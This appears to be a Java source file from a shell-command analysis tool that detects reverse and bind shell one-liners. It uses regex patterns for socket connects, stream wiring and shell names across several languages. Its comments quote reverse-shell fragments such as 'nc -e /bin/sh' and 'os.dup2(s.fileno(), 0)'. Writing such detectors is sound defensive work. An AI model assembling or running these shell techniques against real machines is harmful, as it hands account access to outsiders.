package dev.interlock.analysis.shell.recognizers.code;

import dev.interlock.analysis.shell.Invocation;
import dev.interlock.analysis.shell.recognizers.network.NetworkRecognizer;
import dev.interlock.environment.Hosts;
import dev.interlock.model.Operation;
import java.util.List;
import java.util.Optional;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Reverse and bind shells written as one-liner code: a socket to another host, the standard streams wired onto it
 * ({@code os.dup2(s.fileno(), 0)}, {@code open(STDIN, ">&S")}, {@code sh -i <&3 >&3}, {@code .pipe(sh.stdin)}) and a
 * shell started, or what arrives on the socket run ({@code IO.popen(cmd)}). Whoever is at the other end gets this
 * machine's account, as with {@code nc -e /bin/sh H P}, so it is the same operation: access granted, not a program run.
 * The shell alone ({@code pty.spawn("/bin/bash")}) or a socket alone (a health check) is not this.
 */
final class ReverseShells {

    private ReverseShells() {
    }

    /** Words one of the socket calls below contains; code naming none of them opens no socket (most code). */
    private static final List<String> GATES = List.of("connect", "Socket", "socket", "fsockopen", "stream_socket", "TCPClient",
            "TCPServer", "createServer", "bind");

    /** An outbound connection; group 1, when present, is the host it names. */
    private static final List<Pattern> CONNECTS = List.of(
            // node net.connect(port, host) / client.connect(port, host)
            Pattern.compile("\\.(?:connect|createConnection)\\s*\\(\\s*\\d+\\s*,\\s*['\"]([^'\"]+)['\"]"),
            // python socket.connect((h, p)) / create_connection((h, p)): the address tuple is a socket's, not a database
            // driver's connect('…'); lua's tcp:connect(h, p)
            Pattern.compile("(?:\\.connect|create_connection)\\s*\\(\\s*\\(\\s*(?:['\"]([^'\"]+)['\"])?"),
            Pattern.compile(":connect\\s*\\(\\s*(?:['\"]([^'\"]+)['\"])?"),
            // perl IO::Socket::INET->new(PeerAddr => "h:p") or ("h:p"); connect(S, sockaddr_in(…)) names it earlier
            Pattern.compile("IO::Socket::INET->new\\s*\\(\\s*(?:PeerAddr\\s*=>\\s*)?(?:['\"]([^'\":]+))?"),
            Pattern.compile("\\bconnect\\s*\\(\\s*\\w+\\s*,\\s*sockaddr_in"),
            // ruby TCPSocket.new(h, p), Socket.tcp(h, p); php fsockopen(h, p), stream_socket_client("tcp://h:p")
            Pattern.compile("(?:TCPSocket\\.(?:new|open)|Socket\\.tcp)\\s*\\(\\s*(?:['\"]([^'\"]+)['\"])?"),
            Pattern.compile("(?:fsockopen|stream_socket_client)\\s*\\(\\s*(?:['\"](?:tcp://|udp://)?([^'\":]+))?"),
            // powershell New-Object Net.Sockets.TCPClient('h', p)
            Pattern.compile("TCPClient\\s*\\(\\s*(?:['\"]([^'\"]+)['\"])?"));
    /** A listener: a bind shell hands the account to whoever connects. */
    private static final Pattern LISTENS = Pattern.compile(
            "\\.bind\\s*\\(\\s*\\(?\\s*(?:['\"]([^'\"]*)['\"])?|TCPServer\\.new\\s*\\(\\s*(?:['\"]([^'\"]*)['\"])?|\\bcreateServer\\s*\\(|stream_socket_server\\s*\\(");
    /** A shell named in the code: /bin/sh, bash, sh -i, cmd.exe, powershell. */
    private static final Pattern SHELL = Pattern.compile(
            "/bin/(?:ba|z|da|k|tc|c)?sh\\b|['\"](?:ba|z|da|k)?sh(?:\\s+-i)?['\"]|\\bsh\\s+-i\\b|\\bcmd(?:\\.exe)?['\"]|powershell");
    /** What arrives run as code or a command: IO.popen(cmd), system($c), exec(s.recv(…)), iex. */
    private static final Pattern RUNS_RECEIVED = Pattern.compile(
            "IO\\.popen\\s*\\(\\s*[a-z_@$]|\\b(?:system|exec|shell_exec|passthru|popen|eval)\\s*\\(\\s*[a-zA-Z_$@]|Invoke-Expression|\\biex\\b");
    /** The standard streams or the shell's input wired to the socket, or its input read. */
    private static final Pattern WIRED = Pattern.compile(
            "dup2|fileno\\s*\\(|\\.reopen\\s*\\(|[<>]&\\s*[0-9S$%]|open\\s*\\(?\\s*STD(?:IN|OUT|ERR)|\\.pipe\\s*\\(|proc_open"
            + "|\\bstdin\\s*[:=]\\s*[a-zA-Z_]|\\bgets\\b|\\.recv\\s*\\(|GetStream\\s*\\(|<\\$?\\w+>");
    private static final Pattern IPV4 = Pattern.compile("['\"]((?:\\d{1,3}\\.){3}\\d{1,3})['\"]");

    /** The shell the code hands to another host, or to whoever connects; empty when it does not. */
    static Optional<Operation> in(String code, Invocation inv) {
        if (GATES.stream().noneMatch(code::contains)) {
            return Optional.empty();
        }
        Optional<String> connected = connected(code);
        Matcher listener = LISTENS.matcher(code);
        // a listener accepts: .bind(this) in JavaScript is no socket
        boolean listens = connected.isEmpty() && listener.find() && (code.contains("listen") || code.contains("accept")
                || code.contains("Server"));
        if (connected.isEmpty() && !listens
                || !(SHELL.matcher(code).find() || RUNS_RECEIVED.matcher(code).find()) || !WIRED.matcher(code).find()) {
            return Optional.empty();
        }
        String how = "; " + (listens ? "a bind" : "a reverse") + " shell in " + inv.program() + " code";
        if (listens) {
            String bound = listener.group(1) != null ? listener.group(1) : listener.group(2) != null ? listener.group(2) : "";
            // 0.0.0.0 and "" bind every interface
            boolean loopbackOnly = !bound.isEmpty() && Hosts.loopback(bound) && !bound.equals("0.0.0.0");
            return Optional.of(NetworkRecognizer.shellHandedOver(inv, "", true, loopbackOnly, how));
        }
        String host = connected.get();
        return Optional.of(NetworkRecognizer.shellHandedOver(inv, host, false, !host.isEmpty() && Hosts.loopback(host), how));
    }

    /** The host the code connects to ("" when computed), or empty when it connects nowhere. */
    private static Optional<String> connected(String code) {
        for (Pattern p : CONNECTS) {
            Matcher m = p.matcher(code);
            if (m.find()) {
                if (m.groupCount() >= 1 && m.group(1) != null) {
                    return Optional.of(m.group(1));
                }
                // perl's $i="10.0.0.1"; …connect(S, sockaddr_in($p, inet_aton($i))): the address literal the code holds
                Matcher ip = IPV4.matcher(code);
                return Optional.of(ip.find() ? ip.group(1) : "");
            }
        }
        return Optional.empty();
    }
}
